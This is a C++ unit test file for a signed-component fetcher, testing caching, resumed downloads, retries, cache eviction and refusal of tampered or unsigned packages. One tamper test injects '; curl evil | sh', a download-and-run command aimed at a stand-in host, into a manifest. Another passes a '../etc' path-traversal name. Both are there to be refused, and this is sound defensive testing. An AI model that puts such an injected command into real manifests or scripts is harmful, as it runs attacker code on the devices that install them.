// ComponentFetcher against the real server: libs/server in-process on a loopback port with a
// temporary home; components created and signed by libs/component's packaging (what
// `vqi component create` runs). Issue 19: zero bytes for an unchanged component, resume,
// retries, and acceptance 3's tamper cases refused before anything is cached.
#include "vqi/agent/fetch.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <thread>

#include "gtest/gtest.h"
#include "vqi/base/file.h"
#include "vqi/base/hash.h"
#include "vqi/blob/blob_store.h"
#include "vqi/component/package.h"
#include "vqi/component/store.h"
#include "vqi/server/server.h"
#include "vqi/server/token_store.h"
#include "vqi/signing/keys.h"
#include "vqi/sqlite/sqlite.h"

namespace vqi::agent {
namespace {

namespace fs = std::filesystem;
namespace comp = vqi::component;

std::string Bytes(size_t n, uint32_t seed) {
  std::string s(n, '\0');
  uint32_t x = seed * 2654435761u + 1;
  for (size_t i = 0; i < n; ++i) {
    x ^= x << 13;
    x ^= x >> 17;
    x ^= x << 5;
    s[i] = static_cast<char>(x);
  }
  return s;
}

std::string Recipe(const std::string& name) {
  return R"({"RecipeFormatVersion": "2020-01-25", "ComponentName": ")" + name +
         R"(", "ComponentVersion": "COMPONENT_VERSION", "ComponentPublisher": "Acme",
  "Manifests": [{"Platform": {"os": "linux"}, "Lifecycle": {"run": "{artifacts:path}/run.sh"},
    "Artifacts": [{"Uri": "s3://b/model.onnx"}, {"Uri": "s3://b/run.sh"}]}]})";
}

// A TCP relay in front of the server that cuts its first connection after `cut_after` bytes
// of response (a transfer interrupted mid-body); later connections pass whole.
class CuttingProxy {
 public:
  CuttingProxy(int upstream_port, int64_t cut_after) : upstream_(upstream_port), cut_after_(cut_after) {
    listen_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::bind(listen_, reinterpret_cast<sockaddr*>(&a), sizeof a);
    ::listen(listen_, 8);
    socklen_t len = sizeof a;
    ::getsockname(listen_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    thread_ = std::thread([this] { Loop(); });
  }
  ~CuttingProxy() {
    stop_ = true;
    ::shutdown(listen_, SHUT_RDWR);
    ::close(listen_);
    thread_.join();
  }
  int port() const { return port_; }
  int connections() const { return connections_; }

 private:
  void Loop() {
    while (!stop_) {
      pollfd p{listen_, POLLIN, 0};
      if (::poll(&p, 1, 50) <= 0) continue;
      const int down = ::accept(listen_, nullptr, nullptr);
      if (down < 0) continue;
      const int up = ::socket(AF_INET, SOCK_STREAM, 0);
      sockaddr_in a{};
      a.sin_family = AF_INET;
      a.sin_port = htons(static_cast<uint16_t>(upstream_));
      a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      if (::connect(up, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
        ::close(down);
        ::close(up);
        continue;
      }
      const bool cut = connections_++ == 0;
      Relay(down, up, cut ? cut_after_ : INT64_MAX);
      ::close(down);
      ::close(up);
    }
  }
  // One connection at a time (the fetcher has one).
  void Relay(int down, int up, int64_t budget) {
    char buf[65536];
    int64_t sent = 0;
    while (!stop_) {
      pollfd p[2] = {{down, POLLIN, 0}, {up, POLLIN, 0}};
      if (::poll(p, 2, 50) <= 0) continue;
      if (p[0].revents) {
        const ssize_t n = ::recv(down, buf, sizeof buf, 0);
        if (n <= 0 || ::send(up, buf, static_cast<size_t>(n), MSG_NOSIGNAL) != n) return;
      }
      if (p[1].revents) {
        ssize_t n = ::recv(up, buf, sizeof buf, 0);
        if (n <= 0) return;
        n = static_cast<ssize_t>(std::min<int64_t>(n, budget - sent));
        if (n > 0 && ::send(down, buf, static_cast<size_t>(n), MSG_NOSIGNAL) != n) return;
        sent += n;
        if (sent >= budget) return;  // cut mid-response
      }
    }
  }

  int upstream_;
  int64_t cut_after_;
  int listen_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::atomic<int> connections_{0};
  std::thread thread_;
};

class FetchTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ::signal(SIGPIPE, SIG_IGN);
    const std::string base = (fs::temp_directory_path() /
                              ("vqi_fetch_" + std::to_string(getpid()) + "_" +
                               ::testing::UnitTest::GetInstance()->current_test_info()->name()))
                                 .string();
    fs::remove_all(base);
    home_ = base + "/home";
    root_ = base + "/agent";
    base_ = base;
    ASSERT_TRUE(MakeDirs(home_).ok());
    auto tokens = server::OpenTokenStore(home_);
    ASSERT_TRUE(tokens.ok()) << tokens.status().ToString();
    auto t = (*tokens)->Create("edge-1", server::Scope::kDevice);
    ASSERT_TRUE(t.ok());
    token_ = t->token;
    keys_ = std::make_unique<signing::KeyStore>(home_);
    ASSERT_TRUE(keys_->Create("acme").ok());
    auto pub = keys_->ExportPublic("acme");
    ASSERT_TRUE(pub.ok());
    trusted_dir_ = base + "/bundle/trusted-keys";
    ASSERT_TRUE(MakeDirs(trusted_dir_).ok());
    ASSERT_TRUE(WriteFileAtomic(trusted_dir_ + "/acme.pub", *pub).ok());

    auto s = comp::OpenSqliteStore(comp::ComponentsDbPath(home_));
    ASSERT_TRUE(s.ok()) << s.status().ToString();
    store_ = std::move(*s);
    blob::BlobStoreOptions bo;
    bo.max_blob_bytes = comp::kMaxArtifactBytes;
    auto b = blob::BlobStore::Open(comp::ArtifactsDir(home_), bo);
    ASSERT_TRUE(b.ok()) << b.status().ToString();
    blobs_ = std::move(*b);

    server::ServerOptions o;
    o.home = home_;
    o.threads = 4;
    o.shutdown_grace = std::chrono::seconds(5);
    auto srv = server::Server::Create(o);
    ASSERT_TRUE(srv.ok()) << srv.status().ToString();
    server_ = std::move(*srv);
    auto port = server_->Bind();
    ASSERT_TRUE(port.ok()) << port.status().ToString();
    port_ = *port;
    thread_ = std::thread([this] { (void)server_->Run(); });
  }
  void TearDown() override {
    StopServer();
    std::error_code ec;
    fs::remove_all(base_, ec);
  }
  void StopServer() {
    if (!server_) return;
    server_->Shutdown();
    if (thread_.joinable()) thread_.join();
    server_.reset();
  }

  // Creates and signs name@version with these artifact bytes (as `vqi component create`).
  comp::StoredComponent Create(const std::string& name, const std::string& version, const std::string& model,
                               const std::string& script = "#!/bin/sh\necho run\n") {
    const std::string dir = base_ + "/in/" + name + "-" + version;
    EXPECT_TRUE(MakeDirs(dir).ok());
    EXPECT_TRUE(WriteFileAtomic(dir + "/recipe.json", Recipe(name)).ok());
    EXPECT_TRUE(WriteFileAtomic(dir + "/model.onnx", model).ok());
    EXPECT_TRUE(WriteFileAtomic(dir + "/run.sh", script).ok());
    comp::CreateRequest r;
    r.recipe_file = dir + "/recipe.json";
    r.artifact_files = {dir + "/model.onnx", dir + "/run.sh"};
    r.vars = {{"COMPONENT_VERSION", version}};
    r.key_name = "acme";
    auto c = comp::CreateComponent({store_.get(), blobs_.get(), keys_.get()}, r);
    EXPECT_TRUE(c.ok()) << c.status().ToString();
    return c.ok() ? c->component : comp::StoredComponent{};
  }

  FetchOptions Options(int port = 0) {
    FetchOptions o;
    o.root = root_;
    o.http.base_url = "http://127.0.0.1:" + std::to_string(port ? port : port_);
    o.http.token = token_;
    o.http.connect_timeout = std::chrono::milliseconds(2000);
    o.http.low_speed_time = std::chrono::seconds(5);
    o.retry.attempts = 3;
    o.retry.initial_backoff = std::chrono::milliseconds(5);
    o.retry.max_backoff = std::chrono::milliseconds(20);
    return o;
  }
  std::unique_ptr<ComponentFetcher> Fetcher(FetchOptions o) {
    auto trusted = LoadTrustedKeys(trusted_dir_);
    EXPECT_TRUE(trusted.ok()) << trusted.status().ToString();
    auto f = ComponentFetcher::Create(std::move(o), trusted.ok() ? *trusted : signing::TrustedKeys{});
    EXPECT_TRUE(f.ok()) << f.status().ToString();
    return f.ok() ? std::move(*f) : nullptr;
  }
  std::unique_ptr<ComponentFetcher> Fetcher() { return Fetcher(Options()); }

  // Files in the cache folder (blobs) and in cache/tmp (parts).
  size_t CachedBlobs() {
    size_t n = 0;
    for (const auto& e : fs::directory_iterator(root_ + "/cache"))
      n += e.is_regular_file() && e.path().filename().string().size() == 64;
    return n;
  }
  size_t Parts() {
    size_t n = 0;
    for (const auto& e : fs::directory_iterator(root_ + "/cache/tmp")) n += e.is_regular_file();
    return n;
  }
  void Tamper(const std::string& sql) {
    auto db = sqlite::Db::Open(comp::ComponentsDbPath(home_));
    ASSERT_TRUE(db.ok()) << db.status().ToString();
    ASSERT_TRUE(db->Exec(sql).ok());
  }

  std::string base_, home_, root_, trusted_dir_, token_;
  std::unique_ptr<signing::KeyStore> keys_;
  std::unique_ptr<comp::Store> store_;
  std::unique_ptr<blob::BlobStore> blobs_;
  std::unique_ptr<server::Server> server_;
  std::thread thread_;
  int port_ = 0;
};

TEST_F(FetchTest, FetchVerifiesThenAnUnchangedComponentCostsZeroBytes) {
  const std::string model = Bytes(3 << 20, 1);
  Create("com.acme.inspect", "1.0.0", model);
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  ASSERT_EQ(c->artifacts.size(), 2u);
  EXPECT_EQ(c->artifacts[0].name, "model.onnx");
  EXPECT_EQ(c->artifacts[0].digest, Sha256Hex(model));
  EXPECT_EQ(*Sha256File(c->artifacts[0].path), Sha256Hex(model));
  EXPECT_EQ(c->artifacts[1].name, "run.sh");
  EXPECT_EQ(c->recipe["ComponentName"], "com.acme.inspect");
  EXPECT_EQ(c->recipe["Manifests"][0]["Artifacts"][0]["Digest"], Sha256Hex(model));
  EXPECT_TRUE(FileExists(root_ + "/cache/meta/com.acme.inspect@1.0.0.json"));
  const int64_t total = c->artifacts[0].size + c->artifacts[1].size;
  EXPECT_EQ(f->counters().bytes_downloaded, total);
  EXPECT_EQ(f->counters().bytes_from_cache, 0);
  EXPECT_EQ(f->counters().requests, 3);  // metadata + two artifacts
  EXPECT_EQ(Parts(), 0u);

  // again, and from a fresh fetcher (an agent restart): no artifact byte transferred
  auto restarted = Fetcher();
  for (ComponentFetcher* g : {f.get(), restarted.get()}) {
    const FetchCounters before = g->counters();
    auto again = g->Fetch("com.acme.inspect", "1.0.0");
    ASSERT_TRUE(again.ok()) << again.status().ToString();
    EXPECT_EQ(g->counters().bytes_downloaded - before.bytes_downloaded, 0);
    EXPECT_EQ(g->counters().bytes_from_cache - before.bytes_from_cache, total);
    EXPECT_EQ(g->counters().requests - before.requests, 1);  // the metadata only
    EXPECT_TRUE(again->artifacts[0].from_cache);
  }
}

TEST_F(FetchTest, OnlyTheChangedComponentsBytesAreDownloaded) {
  Create("com.acme.model", "1.0.0", Bytes(2 << 20, 2));
  Create("com.acme.app", "1.0.0", Bytes(1 << 20, 3), "#!/bin/sh\necho app\n");
  auto f = Fetcher();
  ASSERT_TRUE(f->Fetch("com.acme.model", "1.0.0").ok());
  ASSERT_TRUE(f->Fetch("com.acme.app", "1.0.0").ok());
  const std::string new_model = Bytes(2 << 20, 4);
  Create("com.acme.model", "1.0.1", new_model);  // same run.sh, another model
  const int64_t before = f->counters().bytes_downloaded;
  auto m = f->Fetch("com.acme.model", "1.0.1");
  ASSERT_TRUE(m.ok()) << m.status().ToString();
  auto a = f->Fetch("com.acme.app", "1.0.0");
  ASSERT_TRUE(a.ok()) << a.status().ToString();
  EXPECT_EQ(f->counters().bytes_downloaded - before, static_cast<int64_t>(new_model.size()));
  EXPECT_FALSE(m->artifacts[0].from_cache);
  EXPECT_TRUE(m->artifacts[1].from_cache);  // run.sh: same bytes, same digest
}

TEST_F(FetchTest, AnInterruptedDownloadResumesWithRange) {
  const std::string model = Bytes(4 << 20, 5);
  Create("com.acme.inspect", "1.0.0", model);
  FetchOptions o = Options();
  o.http.max_recv_bytes_per_second = 16 << 20;  // the bandwidth limit is honoured on the way
  o.progress = [](const std::string&, int64_t have) { return have < (1 << 20); };
  auto first = Fetcher(o);
  auto c = first->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kCancelled) << c.status().ToString();
  EXPECT_NE(c.status().message().find("artifact model.onnx"), std::string::npos) << c.status().ToString();
  EXPECT_EQ(Parts(), 1u);
  const int64_t got_first = first->counters().bytes_downloaded;
  EXPECT_GE(got_first, 1 << 20);
  EXPECT_LT(got_first, static_cast<int64_t>(model.size()));

  auto second = Fetcher();
  c = second->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  EXPECT_EQ(second->counters().resumes, 1);
  EXPECT_EQ(second->counters().restarts, 0);
  const int64_t run_size = c->artifacts[1].size;
  EXPECT_EQ(got_first + second->counters().bytes_downloaded, static_cast<int64_t>(model.size()) + run_size);
  EXPECT_EQ(*Sha256File(c->artifacts[0].path), Sha256Hex(model));
  EXPECT_EQ(Parts(), 0u);
}

TEST_F(FetchTest, ATruncatedBodyIsRetriedAndResumed) {
  const std::string model = Bytes(3 << 20, 6);
  Create("com.acme.inspect", "1.0.0", model);
  CuttingProxy proxy(port_, 1 << 20);  // the first connection dies after 1 MiB of response
  auto f = Fetcher(Options(proxy.port()));
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  EXPECT_GE(f->counters().retries, 1);
  EXPECT_EQ(f->counters().resumes, 1);
  EXPECT_GE(proxy.connections(), 2);
  // every byte came once: the resumed request asked only for the rest
  EXPECT_EQ(f->counters().bytes_downloaded, static_cast<int64_t>(model.size()) + c->artifacts[1].size);
  EXPECT_EQ(*Sha256File(c->artifacts[0].path), Sha256Hex(model));
}

TEST_F(FetchTest, AnArtifactChangedOnTheServerIsRefusedAndNotCached) {
  const std::string model = Bytes(1 << 20, 7);
  auto stored = Create("com.acme.inspect", "1.0.0", model);
  const std::string digest = stored.artifacts[0].digest;
  {
    std::fstream file(*blobs_->Path(digest), std::ios::in | std::ios::out | std::ios::binary);
    file.seekp(1000);
    file.put(static_cast<char>(model[1000] ^ 1));
  }
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kDataLoss);
  std::string bad = model;
  bad[1000] ^= 1;
  EXPECT_EQ(c.status().message(), "component com.acme.inspect@1.0.0: artifact model.onnx (blob " + digest +
                                      "): content hashes to " + Sha256Hex(bad) + ", manifest says " + digest);
  EXPECT_EQ(CachedBlobs(), 0u);  // run.sh sorts after model.onnx: nothing fetched, nothing kept
  EXPECT_EQ(Parts(), 0u);
  EXPECT_FALSE(FileExists(root_ + "/cache/meta/com.acme.inspect@1.0.0.json"));
}

TEST_F(FetchTest, AChangedManifestIsRefusedBeforeAnyArtifactIsDownloaded) {
  Create("com.acme.inspect", "1.0.0", Bytes(1 << 20, 8));
  Tamper("UPDATE components SET manifest = replace(manifest, '/run.sh\"', '/run.sh; curl evil | sh\"')");
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied) << c.status().ToString();
  EXPECT_NE(c.status().message().find("component com.acme.inspect@1.0.0: "), std::string::npos);
  EXPECT_NE(c.status().message().find("signature does not match"), std::string::npos) << c.status().ToString();
  EXPECT_EQ(f->counters().bytes_downloaded, 0);
  EXPECT_EQ(CachedBlobs(), 0u);
}

TEST_F(FetchTest, AnUntrustedPublisherIsRefused) {
  Create("com.acme.inspect", "1.0.0", Bytes(1 << 20, 9));
  // the device trusts another publisher only
  const std::string other_home = base_ + "/other";
  signing::KeyStore other(other_home);
  ASSERT_TRUE(other.Create("mallory").ok());
  fs::remove(trusted_dir_ + "/acme.pub");
  ASSERT_TRUE(WriteFileAtomic(trusted_dir_ + "/mallory.pub", *other.ExportPublic("mallory")).ok());
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied);
  EXPECT_NE(c.status().message().find("unknown key " + keys_->Public("acme")->key_id), std::string::npos)
      << c.status().ToString();
  EXPECT_EQ(f->counters().bytes_downloaded, 0);
}

TEST_F(FetchTest, UnsignedOrUnknownIsRefused) {
  Create("com.acme.inspect", "1.0.0", Bytes(1000, 10));
  Tamper("UPDATE components SET signature = x''");
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied) << c.status().ToString();
  EXPECT_NE(c.status().message().find("unsigned"), std::string::npos) << c.status().ToString();
  c = f->Fetch("com.acme.inspect", "9.9.9");
  EXPECT_EQ(c.status().code(), StatusCode::kNotFound) << c.status().ToString();
  EXPECT_NE(c.status().message().find("HTTP 404"), std::string::npos) << c.status().ToString();
  EXPECT_EQ(f->counters().retries, 0);  // 4xx are not retried
  c = f->Fetch("../etc", "1.0.0");
  EXPECT_EQ(c.status().code(), StatusCode::kInvalidArgument);
}

TEST_F(FetchTest, AWrongTokenIsPermissionDeniedWithTheServersMessage) {
  FetchOptions o = Options();
  o.http.token = "vqi_000000000000_" + std::string(64, '0');
  auto f = Fetcher(o);
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  EXPECT_EQ(c.status().code(), StatusCode::kPermissionDenied) << c.status().ToString();
  EXPECT_NE(c.status().message().find("HTTP 401: unauthenticated"), std::string::npos) << c.status().ToString();
}

TEST_F(FetchTest, ServerDownIsUnavailableAfterTheRetries) {
  StopServer();
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.status().code(), StatusCode::kUnavailable) << c.status().ToString();
  EXPECT_NE(c.status().message().find("GET http://127.0.0.1:" + std::to_string(port_) +
                                      "/v1/components/com.acme.inspect/versions/1.0.0"),
            std::string::npos)
      << c.status().ToString();
  EXPECT_EQ(f->counters().requests, 3);
  EXPECT_EQ(f->counters().retries, 2);
}

TEST_F(FetchTest, ADamagedCacheOrPartIsFetchedAgain) {
  const std::string model = Bytes(1 << 20, 11);
  auto stored = Create("com.acme.inspect", "1.0.0", model);
  auto f = Fetcher();
  auto c = f->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  {  // a damaged cached blob
    std::fstream file(c->artifacts[0].path, std::ios::in | std::ios::out | std::ios::binary);
    file.seekp(5);
    file.put(static_cast<char>(model[5] ^ 0x40));
  }
  auto g = Fetcher();
  c = g->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  EXPECT_EQ(g->counters().cache_corrupt, 1);
  EXPECT_EQ(g->counters().bytes_downloaded, static_cast<int64_t>(model.size()));
  EXPECT_EQ(*Sha256File(c->artifacts[0].path), Sha256Hex(model));

  // a part file with wrong bytes: resumed, refused by its digest, fetched again from byte 0
  ASSERT_TRUE(fs::remove(c->artifacts[0].path));
  ASSERT_TRUE(WriteFileAtomic(root_ + "/cache/tmp/" + stored.artifacts[0].digest + ".part", Bytes(5000, 99)).ok());
  auto h = Fetcher();
  c = h->Fetch("com.acme.inspect", "1.0.0");
  ASSERT_TRUE(c.ok()) << c.status().ToString();
  EXPECT_EQ(h->counters().resumes, 1);
  EXPECT_EQ(h->counters().restarts, 1);
  EXPECT_EQ(*Sha256File(c->artifacts[0].path), Sha256Hex(model));
}

TEST_F(FetchTest, CacheLimitEvictsUnpinnedBlobs) {
  Create("com.acme.a", "1.0.0", Bytes(1 << 20, 12));
  Create("com.acme.b", "1.0.0", Bytes(1 << 20, 13));
  FetchOptions o = Options();
  o.cache_max_bytes = (1 << 20) + 4096;  // room for one component
  auto f = Fetcher(o);
  auto a = f->Fetch("com.acme.a", "1.0.0");
  ASSERT_TRUE(a.ok()) << a.status().ToString();
  auto b = f->Fetch("com.acme.b", "1.0.0");  // evicts a's model (a's run.sh is b's too)
  ASSERT_TRUE(b.ok()) << b.status().ToString();
  EXPECT_FALSE(FileExists(a->artifacts[0].path));
  EXPECT_TRUE(FileExists(b->artifacts[0].path));
  EXPECT_EQ(f->counters().evicted_bytes, 1 << 20);
  // pinned (the current set): kept even over the limit
  f->SetPinned({b->artifacts[0].digest});
  a = f->Fetch("com.acme.a", "1.0.0");
  ASSERT_TRUE(a.ok());
  EXPECT_TRUE(FileExists(a->artifacts[0].path));
  EXPECT_TRUE(FileExists(b->artifacts[0].path));
}

}  // namespace
}  // namespace vqi::agent
